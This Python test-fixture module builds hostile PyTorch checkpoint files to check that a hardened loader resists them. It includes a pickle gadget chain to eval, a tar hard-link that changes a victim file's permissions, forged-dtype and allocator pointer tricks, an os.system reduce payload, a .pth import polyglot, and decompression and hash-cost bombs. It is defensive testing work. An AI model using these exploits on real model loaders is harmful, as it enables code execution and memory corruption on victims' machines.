"""Hand-made checkpoint files that try to run code, write files or crash
the process that loads them, built from pickle opcodes.

Each ``write_*`` function writes one attack to a path; the tests load them
in a subprocess and check that nothing happened. The pickles are protocol 2
(what ``torch.save`` writes), wrapped in the zip layout of ``torch.save``
(``archive/data.pkl``, ``archive/version``, ``archive/byteorder``), so the
zip-record check lets them through to the unpickler.
"""
import io
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import List, Tuple

import numpy as np


class Program:
    """A protocol-2 pickle written opcode by opcode."""

    def __init__(self) -> None:
        self.out = io.BytesIO()
        self.out.write(pickle.PROTO + b'\x02')
        self.memo = 0

    def op(self, code: bytes) -> 'Program':
        self.out.write(code)
        return self

    def global_(self, module: str, name: str) -> 'Program':
        return self.op(pickle.GLOBAL + f'{module}\n{name}\n'.encode())

    def str_(self, text: str) -> 'Program':
        data = text.encode('utf-8')
        return self.op(pickle.BINUNICODE + struct.pack('<I', len(data)) +
                       data)

    def int_(self, value: int) -> 'Program':
        return self.op(pickle.BININT + struct.pack('<i', value))

    def bytes_(self, data: bytes) -> 'Program':
        # protocol 2 writes bytes as _codecs.encode(text, 'latin1')
        self.global_('_codecs', 'encode')
        self.str_(data.decode('latin1')).str_('latin1')
        return self.op(pickle.TUPLE2 + pickle.REDUCE)

    def put(self) -> int:
        """Memoize the top of the stack; returns its memo index."""
        index = self.memo
        self.memo += 1
        self.op(pickle.BINPUT + bytes([index]))
        return index

    def get(self, index: int) -> 'Program':
        return self.op(pickle.BINGET + bytes([index]))

    def call(self, func: int, *args) -> 'Program':
        """``memo[func](*args)``; each arg is a memo index or a callable
        that pushes the value."""
        self.get(func)
        self.op(pickle.MARK)
        for arg in args:
            self.get(arg) if isinstance(arg, int) else arg(self)
        return self.op(pickle.TUPLE + pickle.REDUCE)

    def data(self) -> bytes:
        return self.out.getvalue() + pickle.STOP


def write_torch_zip(path: str, data_pkl: bytes) -> None:
    """A zip of ``torch.save``'s layout holding ``data_pkl``."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', data_pkl)
        archive.writestr('archive/byteorder', 'little')
        archive.writestr('archive/version', '3\n')


def _result_dict(p: Program, key: str, value: int) -> None:
    """Leave ``{'state_dict': {}, key: memo[value]}`` on the stack."""
    p.op(pickle.EMPTY_DICT + pickle.MARK)
    p.str_('state_dict').op(pickle.EMPTY_DICT)
    p.str_(key).get(value)
    p.op(pickle.SETITEMS)


def write_history_buffer_chain(path: str, marker: str) -> None:
    """The ``HistoryBuffer`` / ``getattr`` / ``_rebuild_from_type_v2``
    chain to ``eval``, which creates ``marker``.

    1. A ``HistoryBuffer`` whose state adds ``__class__`` and
       ``__getattribute__`` to the statistics dict all HistoryBuffers share
       (MMEngine >= 0.8's ``__setstate__`` updates it).
    2. A ``getattr`` limited to names in that dict then returns ``type``
       and ``object.__getattribute__``.
    3. ``_rebuild_from_type_v2(func, new_type, args, state)`` calls
       ``func(*args)``: with ``type`` it gives the types it needs as
       ``new_type``, with ``object.__getattribute__`` it walks from
       ``HistoryBuffer.min.__globals__`` to ``__builtins__['eval']``.
    """
    p = Program()
    p.global_('mmengine.logging.history_buffer', 'HistoryBuffer')
    hb = p.put()
    p.global_('__builtin__', 'getattr')
    ga = p.put()
    p.global_('torch._tensor', '_rebuild_from_type_v2')
    rt = p.put()
    p.global_('_codecs', 'encode')
    enc = p.put()
    # 1. pollute HistoryBuffer._statistics_methods
    p.get(hb).op(pickle.EMPTY_TUPLE + pickle.NEWOBJ)
    p.op(pickle.EMPTY_DICT + pickle.MARK).str_('statistics_methods')
    p.op(pickle.EMPTY_DICT + pickle.MARK)
    p.str_('__class__').int_(0).str_('__getattribute__').int_(0)
    p.op(pickle.SETITEMS + pickle.SETITEMS + pickle.BUILD)
    # 2. the getattr
    p.call(ga, hb, lambda q: q.str_('__class__'))
    typ = p.put()
    p.call(ga, hb, lambda q: q.str_('__getattribute__'))
    oga = p.put()
    p.call(ga, hb, lambda q: q.str_('min'))
    hb_min = p.put()

    def empty(q):
        q.op(pickle.EMPTY_DICT)

    def tup(*items):  # pushes a tuple of memo indices / pushers
        def push(q):
            q.op(pickle.MARK)
            for item in items:
                q.get(item) if isinstance(item, int) else item(q)
            q.op(pickle.TUPLE)
        return push

    def of(value):  # _rebuild_from_type_v2(type, type, (value,), {})
        return lambda q: q.call(rt, typ, typ, tup(value), empty)

    of(empty)(p)
    dict_t = p.put()
    of(lambda q: q.get(enc))(p)
    builtin_t = p.put()
    of(lambda q: q.str_(''))(p)
    str_t = p.put()
    p.call(rt, oga, dict_t, tup(hb_min, lambda q: q.str_('__globals__')),
           empty)
    glob = p.put()
    p.call(rt, oga, builtin_t, tup(glob, lambda q: q.str_('get')), empty)
    glob_get = p.put()
    p.call(rt, glob_get, dict_t, tup(lambda q: q.str_('__builtins__')),
           empty)
    builtins_ = p.put()
    p.call(rt, oga, builtin_t, tup(builtins_, lambda q: q.str_('get')),
           empty)
    b_get = p.put()
    p.call(rt, b_get, builtin_t, tup(lambda q: q.str_('eval')), empty)
    eval_ = p.put()
    code = (f"__import__('pathlib').Path({marker!r}).touch() or "
            "'ran eval'")
    p.call(rt, eval_, str_t, tup(lambda q: q.str_(code)), empty)
    result = p.put()
    _result_dict(p, 'x', result)
    write_torch_zip(path, p.data())


def write_tar_hard_link(path: str, victim: str) -> None:
    """torch's oldest format, a tar whose ``storages`` member is a hard
    link to ``victim`` with mode 0o6777 and uid 4242: extracting it (as
    torch's legacy loader does) changes the victim's mode (and owner, as
    root)."""
    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo('storages')
        info.type = tarfile.LNKTYPE
        info.linkname = victim
        info.mode = 0o6777
        info.uid = info.gid = 4242
        tar.addfile(info)


def write_forged_dtype(path: str) -> None:
    """A void dtype whose ``BUILD`` state gives it an object field at
    offset 0, then an array of it from raw bytes in a list: reading the
    array dereferences the bytes as an object pointer."""
    core = 'numpy._core' if int(np.__version__.split('.')[0]) >= 2 \
        else 'numpy.core'
    p = Program()
    p.global_(f'{core}.multiarray', '_reconstruct')
    rec = p.put()
    p.global_('numpy', 'ndarray')
    nd = p.put()
    p.global_('numpy', 'dtype')
    dt = p.put()

    def flags(q):
        q.op(pickle.NEWFALSE + pickle.NEWTRUE)

    p.call(dt, lambda q: q.str_('O8'), flags)
    obj = p.put()
    p.call(dt, lambda q: q.str_('V8'), flags)
    # state: (3, '|', None, ('a',), {'a': (object dtype, 0)}, 8, 1, 0)
    p.op(pickle.MARK).int_(3).str_('|').op(pickle.NONE)
    p.str_('a').op(pickle.TUPLE1 + pickle.EMPTY_DICT).str_('a').get(obj)
    p.int_(0).op(pickle.TUPLE2 + pickle.SETITEM)
    p.int_(8).int_(1).int_(0).op(pickle.TUPLE + pickle.BUILD)
    forged = p.put()
    p.call(rec, nd, lambda q: q.int_(0).op(pickle.TUPLE1),
           lambda q: q.bytes_(b'b'))
    p.op(pickle.MARK).int_(1).int_(2).op(pickle.TUPLE1)
    p.get(forged).op(pickle.NEWFALSE).bytes_(b'\x41' * 16)
    p.op(pickle.TUPLE + pickle.BUILD)
    array = p.put()
    p.op(pickle.EMPTY_LIST).get(array).op(pickle.APPEND)
    items = p.put()
    _result_dict(p, 'x', items)
    write_torch_zip(path, p.data())


def write_allocator_storage(path: str) -> None:
    """``UntypedStorage.__new__(cls, 16, allocator=<int>)`` through
    ``NEWOBJ_EX``: torch takes the int as an allocator's address."""
    p = Program()
    p.global_('torch.storage', 'UntypedStorage')
    p.op(pickle.MARK).int_(16).op(pickle.TUPLE)
    p.op(pickle.EMPTY_DICT).str_('allocator').int_(0x41414141)
    p.op(pickle.SETITEM + pickle.NEWOBJ_EX)
    storage = p.put()
    _result_dict(p, 'x', storage)
    write_torch_zip(path, p.data())


#: name -> (writer, what it needs: 'marker' or 'victim' or None)
ATTACKS: List[Tuple[str, str]] = [
    ('history_buffer_chain', 'marker'),
    ('tar_hard_link', 'victim'),
    ('forged_dtype', None),
    ('allocator_storage', None),
]


def write(name: str, path: str, target: str = '') -> None:
    """Write attack ``name`` to ``path`` (``target``: the marker or victim
    file it aims at)."""
    writer = globals()[f'write_{name}']
    if name in ('history_buffer_chain', 'tar_hard_link'):
        writer(path, target)
    else:
        writer(path)


def victim_file(directory: str) -> str:
    victim = os.path.join(directory, 'victim.txt')
    with open(victim, 'w') as f:
        f.write('mine\n')
    os.chmod(victim, 0o644)
    return victim


# ---- issue 27 URLs (remote.py) ----
def _stored_zip(records: List[Tuple[str, bytes]]) -> bytes:
    """A stored zip archive of ``records``, dated 1980, mode ``r--------``
    (the fields ``zipfile`` would fill with non-ASCII bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as archive:
        for name, data in records:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.external_attr = 0o400 << 16
            archive.writestr(info, data)
    return out.getvalue()


def _ascii(data: bytes) -> bool:
    return max(data) < 0x80


def _ascii_numbers(*numbers: int) -> bool:
    """Whether each number, as the 4 little-endian bytes of a zip field,
    is ASCII."""
    return all(n & ~0x7f7f7f7f == 0 for n in numbers)


def _zip_numbers_ascii(records: List[Tuple[str, bytes]]) -> bool:
    """Whether the sizes and offsets of :func:`_stored_zip`'s archive of
    ``records`` are ASCII (30-byte local headers, 46-byte directory
    entries, no extra fields)."""
    offset = directory = 0
    numbers = []
    for name, data in records:
        numbers += [offset, len(data), len(name), zlib.crc32(data)]
        offset += 30 + len(name) + len(data)
        directory += 46 + len(name)
    return _ascii_numbers(offset, directory, *numbers)


def write_ascii_checkpoint_with_import(path: str, line: str) -> None:
    """A valid checkpoint (a tensor ``w`` in ``state_dict``) whose bytes
    are all ASCII and which holds ``line`` (``import ...``) as a line of
    its own: saved as ``<site-packages>/<anything>.pth``, Python's ``site``
    module would run that line at every start.

    The pickle is protocol 1 (``I00`` booleans, one-byte memo indices and
    lengths: ASCII for a small checkpoint) and ``line`` a string value
    between two newlines. The zip is stored; the tensor's first value, the
    leading zeros of the ``version`` record (torch reads it with
    ``stoull``), the spaces after ``line`` and the length of the archive's
    folder name are chosen so that every CRC, size and offset is ASCII
    too. The optional ``byteorder`` record (a non-ASCII CRC) is left out.
    """
    import torch
    versions = [v for v in (b'0' * k + b'3\n' for k in range(128))
                if _ascii_numbers(zlib.crc32(v))]
    first = next(k for k in range(128)
                 if _ascii_numbers(zlib.crc32(struct.pack('<3q', k, 1, 2))))
    for pad in range(1024):
        note = f'\n{line}\n' + ' ' * pad
        if not _ascii_numbers(len(note.encode())):
            continue  # the string's length, 4 bytes in the pickle
        buf = io.BytesIO()
        torch.save({'state_dict': {'w': torch.tensor([first, 1, 2])},
                    'meta': {'note': note}}, buf, pickle_protocol=1)
        with zipfile.ZipFile(buf) as saved:
            got = {n.split('/', 1)[1]: saved.read(n) for n in saved.namelist()}
        pkl = got['data.pkl']
        if not _ascii_numbers(zlib.crc32(pkl), len(pkl)):
            continue
        for folder in ('archive' + '_' * k for k in range(100)):
            for version in versions:
                records = [(f'{folder}/version', version),
                           (f'{folder}/data/0', got['data/0']),
                           (f'{folder}/data.pkl', pkl)]
                if not _zip_numbers_ascii(records):
                    continue
                data = _stored_zip(records)
                assert _ascii(data)
                with open(path, 'wb') as f:
                    f.write(data)
                return
    raise RuntimeError('found no ASCII-only layout')  # pragma: no cover
# ---- issue 27 files: storages, records, persistent ids ----
def _storage_pickle(pid: bytes, numel_of_tensor: int = 2,
                    legacy: bool = False) -> bytes:
    """``{'state_dict': {}, 'x': <a float tensor of numel_of_tensor
    elements on the storage that ``pid`` (the opcodes that push the
    persistent id) names>}``."""
    p = Program()
    p.global_('torch._utils', '_rebuild_tensor_v2')
    rebuild = p.put()
    p.get(rebuild).op(pickle.MARK)
    p.op(pid + pickle.BINPERSID)
    p.int_(0).int_(numel_of_tensor).op(pickle.TUPLE1).int_(1)
    p.op(pickle.TUPLE1 + pickle.NEWFALSE)
    p.global_('collections', 'OrderedDict')
    p.op(pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.TUPLE + pickle.REDUCE)
    tensor = p.put()
    _result_dict(p, 'x', tensor)
    return p.data()


def storage_id(kind: Tuple[str, str] = ('torch', 'FloatStorage'),
               key: str = '0', location: str = 'cpu', numel: int = 2,
               view: bool = False) -> bytes:
    """The opcodes of ``('storage', kind, key, location, numel[, None])``
    (the legacy format's ids have the sixth item, the view)."""
    p = Program()
    p.op(pickle.MARK).str_('storage').global_(*kind).str_(key)
    p.str_(location).op(pickle.BININT + struct.pack('<i', numel))
    if view:
        p.op(pickle.NONE)
    return p.out.getvalue()[2:] + pickle.TUPLE


def write_storage_zip(path: str, pid: bytes, record: bytes = b'\0' * 8,
                      numel_of_tensor: int = 2, byteorder: str = 'little',
                      compress: int = zipfile.ZIP_STORED) -> None:
    """A ``torch.save`` zip whose ``data/0`` holds ``record`` and whose
    pickle puts a tensor on the storage ``pid`` names."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl',
                         _storage_pickle(pid, numel_of_tensor))
        archive.writestr('archive/byteorder', byteorder)
        archive.writestr('archive/data/0', record, compress_type=compress)
        archive.writestr('archive/version', '3\n')


def write_storage_over_claim(path: str, numel: int = 16,
                             byteorder: str = 'little') -> None:
    """A storage that claims ``numel`` floats over a record of 8 bytes,
    and a tensor over all of them: torch < 2.15 gives a tensor of the
    heap memory after the record (a crash at 16 M; with ``byteorder``
    ``big``, a byte swap over that memory)."""
    write_storage_zip(path, storage_id(numel=numel), b'\x01' * 8, numel,
                      byteorder)


def write_deflated_record(path: str, nbytes: int = 64 << 20) -> None:
    """A deflated ``data/0`` of ``nbytes`` zeros (a file of ~1/1000 the
    size)."""
    write_storage_zip(path, storage_id(numel=nbytes // 4), bytes(nbytes),
                      2, compress=zipfile.ZIP_DEFLATED)


def legacy_file(main: bytes, keys: List[str],
                data: List[Tuple[int, bytes]]) -> bytes:
    """A legacy single-pickle file: magic number, protocol, system info,
    the pickle ``main``, the key list ``keys``, then for each ``(count,
    bytes)`` of ``data`` an int64 element count and the bytes."""
    head = b''.join(
        pickle.dumps(value, protocol=2)
        for value in (0x1950a86a20f9469cfc6c, 1001, {
            'protocol_version': 1001,
            'little_endian': True
        }))
    tail = b''.join(struct.pack('<q', count) + raw for count, raw in data)
    return head + main + pickle.dumps(keys, protocol=2) + tail


def write_legacy(path: str, pid: bytes, keys: List[str],
                 data: List[Tuple[int, bytes]]) -> None:
    with open(path, 'wb') as f:
        f.write(legacy_file(_storage_pickle(pid), keys, data))


def write_legacy_unlisted_storage(path: str) -> None:
    """A legacy file whose pickle names storage ``'0'`` and whose key list
    is empty: torch never fills the storage (a tensor of uninitialised
    memory)."""
    write_legacy(path, storage_id(view=True), [], [])


def write_legacy_module_id(path: str) -> None:
    """A legacy persistent id ``('module', obj, '', '')``: torch's legacy
    loader returns ``obj`` (here the class ``torch.Tensor``) as a value."""
    p = Program()
    p.op(pickle.MARK).str_('module').global_('torch', 'Tensor')
    p.str_('').str_('')
    with open(path, 'wb') as f:
        f.write(legacy_file(_storage_pickle(p.out.getvalue()[2:] +
                                            pickle.TUPLE), [], []))


def write_text_persistent_id(path: str) -> None:
    """A text persistent id (``PERSID``): torch asserts a tuple."""
    data = _storage_pickle(b'').replace(pickle.BINPERSID,
                                        pickle.PERSID + b'0\n', 1)
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', data)
        archive.writestr('archive/data/0', b'\0' * 8)
        archive.writestr('archive/version', '3\n')


def write_huge_frame(path: str) -> None:
    """A protocol-4 pickle whose ``FRAME`` claims 2**63-1 bytes."""
    data = pickle.PROTO + b'\x04' + pickle.FRAME + struct.pack(
        '<Q', 2**63 - 1) + pickle.EMPTY_DICT + pickle.STOP
    write_torch_zip(path, data)


def write_storage_over_claim_16m(path: str) -> None:
    write_storage_over_claim(path, 16 << 20)


def write_storage_over_claim_big_endian(path: str) -> None:
    write_storage_over_claim(path, 16 << 20, 'big')


ATTACKS += [('storage_over_claim_16m', None),
            ('storage_over_claim_big_endian', None)]
# ---- issue 27 values: costs, stride-0 views, things that are not values ----
def write_shared_dag(path: str, depth: int = 60, use: str = 'value') -> None:
    """``{'x': level[depth]}`` where each level is a tuple (even levels) or
    a list (odd levels) holding the level below twice: a file of under
    1 KB whose value has 2**depth paths. ``use='torch.Size'`` hands the
    top level to ``torch.Size`` (refused, with a message about the value);
    ``use='tuples'`` makes every level a tuple, and ``use='key'`` uses
    those as a dict key (``{top: 1}``), which costs 2**depth to hash."""
    p = Program()
    if use == 'torch.Size':
        p.global_('torch', 'Size')
        size = p.put()
    p.op(pickle.EMPTY_TUPLE)
    below = p.put()
    for level in range(depth):
        if level % 2 and use in ('value', 'torch.Size'):
            p.op(pickle.EMPTY_LIST + pickle.MARK).get(below).get(below)
            p.op(pickle.APPENDS)
        else:
            p.get(below).get(below).op(pickle.TUPLE2)
        below = p.put()
    if use == 'torch.Size':
        p.call(size, below)
        below = p.put()
    elif use == 'key':
        p.op(pickle.EMPTY_DICT).get(below).int_(1).op(pickle.SETITEM)
        below = p.put()
    _result_dict(p, 'x', below)
    write_torch_zip(path, p.data())


def write_repeated_view(path: str, shape: Tuple[int, ...],
                        dtype: str = 'float16') -> None:
    """A tensor of ``shape`` whose strides are all 0, over a storage of one
    element (``torch.save`` keeps such a view as it is): a file of under
    1 KB that stands for ``prod(shape)`` elements."""
    import torch
    one = torch.zeros((1, ) * len(shape), dtype=getattr(torch, dtype))
    torch.save({'state_dict': {'w': one.expand(*shape)}}, path)


def write_global_as_value(path: str, module: str, name: str,
                          where: str = 'value') -> None:
    """A checkpoint holding the global ``module.name`` itself (a class, a
    function, a marker) rather than anything it builds: as a dict value,
    a dict key, inside a tuple, or as an ``OrderedDict``'s ``_metadata``
    (what ``BUILD`` may set on a ``state_dict``)."""
    p = Program()
    if where == 'metadata':
        p.global_('collections', 'OrderedDict')
        p.op(pickle.EMPTY_TUPLE + pickle.REDUCE)
        p.op(pickle.EMPTY_DICT).str_('_metadata').global_(module, name)
        p.op(pickle.SETITEM + pickle.BUILD)
    elif where == 'key':
        p.op(pickle.EMPTY_DICT).global_(module, name).int_(1)
        p.op(pickle.SETITEM)
    elif where == 'tuple':
        p.int_(1).global_(module, name).op(pickle.TUPLE2)
    else:
        p.global_(module, name)
    value = p.put()
    _result_dict(p, 'x', value)
    write_torch_zip(path, p.data())


def _plain(p: Program, value) -> None:
    """Push ``value``: None, a bool, an int, a str, bytes, an empty dict or
    a tuple of these."""
    if value == {}:
        p.op(pickle.EMPTY_DICT)
    elif isinstance(value, bytes):
        p.bytes_(value)
    elif isinstance(value, tuple):
        p.op(pickle.MARK)
        for item in value:
            _plain(p, item)
        p.op(pickle.TUPLE)
    elif value is None or isinstance(value, bool):
        p.op({None: pickle.NONE, False: pickle.NEWFALSE,
              True: pickle.NEWTRUE}[value])
    elif isinstance(value, int):
        p.int_(value)
    else:
        p.str_(value)


#: The name under which torch's own unpickler (restricted=False) is given
#: the allow-list's numpy dtype placeholder.
NUMPY_DTYPE_PLACEHOLDER = 'rla_mmdet.checkpoint.allow_list.NumpyDType'


def write_numpy_dtype(path: str, name: str, via: str = 'numpy.dtype') -> None:
    """``numpy.dtype(name)`` as numpy pickles it (its ``__reduce__``),
    then ``(the dtype, an array of it)``. ``via`` names what the pickle
    calls with the dtype's name: ``numpy.dtype`` or
    :data:`NUMPY_DTYPE_PLACEHOLDER` (with the name only)."""
    core = 'numpy._core' if int(np.__version__.split('.')[0]) >= 2 \
        else 'numpy.core'
    _, args, state = np.dtype(name).__reduce__()
    p = Program()
    p.global_(*via.rsplit('.', 1))
    _plain(p, args if via == 'numpy.dtype' else args[:1])
    p.op(pickle.REDUCE)
    _plain(p, state)
    p.op(pickle.BUILD)
    dtype = p.put()
    p.global_(f'{core}.multiarray', '_reconstruct')
    p.global_('numpy', 'ndarray').int_(0).op(pickle.TUPLE1)
    p.bytes_(b'b').op(pickle.TUPLE3 + pickle.REDUCE)
    p.op(pickle.MARK).int_(1).int_(1).op(pickle.TUPLE1).get(dtype)
    p.op(pickle.NEWFALSE).bytes_(b'\x41' * np.dtype(name).itemsize)
    p.op(pickle.TUPLE + pickle.BUILD)
    array = p.put()
    p.get(dtype).get(array).op(pickle.TUPLE2)
    both = p.put()
    _result_dict(p, 'x', both)
    write_torch_zip(path, p.data())


def write_huge_complex(path: str) -> None:
    """``complex(10**400)``: an int beyond the range of a float."""
    p = Program()
    p.global_('__builtin__', 'complex')
    data = (10**400).to_bytes(167, 'little', signed=True)
    p.op(pickle.LONG1 + bytes([len(data)]) + data)
    p.op(pickle.TUPLE1 + pickle.REDUCE)
    value = p.put()
    _result_dict(p, 'x', value)
    write_torch_zip(path, p.data())
# ---- issue 27 converters and inference routes ----
#: The blocks per stage of RLA-ResNet-50.
_R50_BLOCKS = (3, 4, 6, 3)


def r50_names(prefix: str, one) -> dict:
    """The keys the converters infer an RLA-ResNet-50 from, all views of
    the one stored element ``one``."""
    return {
        f'{prefix}stages.{s}.{b}.conv3.weight': one
        for s, n in enumerate(_R50_BLOCKS) for b in range(n)
    }


def write_wide_hidden_state(path: str, channels: int = 100000) -> None:
    """An authors' ImageNet file (about 1 KB) whose ``conv_outs.0.weight``
    is a stride-0 view of one stored float claiming ``channels`` hidden
    channels: a converter that builds the backbone from the shape asks
    for hundreds of gigabytes."""
    import torch
    one = torch.zeros(1)
    state = r50_names('module.', one)
    state['module.conv_outs.0.weight'] = one.expand(channels, 256, 1, 1)
    torch.save(dict(epoch=1, arch='rla_resnet50', state_dict=state), path)


def write_many_classes(path: str, num_classes: int = 50000) -> None:
    """An mmdetection 2.x Faster R-CNN file of a few hundred KB naming
    ``num_classes`` classes: a converter that builds the detector with
    them asks for gigabytes of heads. Its tensors are stored whole (the
    loader refuses a view larger than its storage before a converter
    sees it)."""
    import torch
    one = torch.zeros(1)
    state = r50_names('backbone.', one)
    # stored in full: only the class count is a claim
    state['backbone.conv_outs.0.weight'] = torch.zeros(32, 256, 1, 1)
    state['roi_head.bbox_head.fc_cls.weight'] = one
    meta = dict(mmdet_version='2.28.2',
                CLASSES=tuple(f'c{i}' for i in range(num_classes)))
    torch.save(dict(state_dict=state, meta=meta), path)


class RunsCode:
    """Pickled as ``os.system(command)``: loading it runs the command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command, ))


def write_reduce_payload(path: str, marker: str, state_dict=None) -> None:
    """A ``torch.save`` file holding ``state_dict`` and an object whose
    ``__reduce__`` creates ``marker`` when unpickled by torch's full
    unpickler (``weights_only=False``)."""
    import torch
    torch.save(dict(state_dict=state_dict or {}, meta={},
                    x=RunsCode(f'touch {marker}')), path)
# ---- issue 27 report (tests/attack_report.py) ----
def write_many_classes_dense(path: str, num_classes: int = 50000) -> None:
    """:func:`write_many_classes` with a stored hidden-state weight (no
    stride-0 view for the loader to refuse): the converter's own class
    bound is what stops it."""
    import torch
    write_many_classes(path, num_classes)
    checkpoint = torch.load(path, weights_only=False)
    state = checkpoint['state_dict']
    state['backbone.conv_outs.0.weight'] = torch.zeros(32, 256, 1, 1)
    torch.save(checkpoint, path)
